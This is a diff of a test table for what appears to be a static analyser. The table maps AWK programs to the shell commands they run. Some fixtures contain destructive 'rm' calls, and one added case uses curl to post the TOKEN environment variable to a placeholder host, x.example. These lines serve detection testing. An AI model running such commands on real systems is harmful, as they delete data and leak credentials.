@@ -549,7 +549,9 @@ def test_php_harmless(code: str) -> None:
 AWK = [
     ("BEGIN { system(\"rm -rf /tmp/x\") }", {sh("rm -rf /tmp/x")}),
     ("{ system($0) }", {UNK}),
-    ("{ system(\"rm \" $1) }", {UNK}),
+    ("{ system(\"rm \" $1) }", {sh('rm "$__input"')}),   # a concatenation led by a literal
+    ("BEGIN { system(\"curl -d \" ENVIRON[\"TOKEN\"] \" https://x.example\") }",
+     {sh('curl -d ${TOKEN} https://x.example')}),
     ("BEGIN { \"date\" | getline d; print d }", {sh("date")}),
     ("BEGIN { while ((\"ls\" | getline line) > 0) n++ }", {sh("ls")}),
     ("BEGIN { cmd = \"date\"; cmd | getline d }", {UNK}),
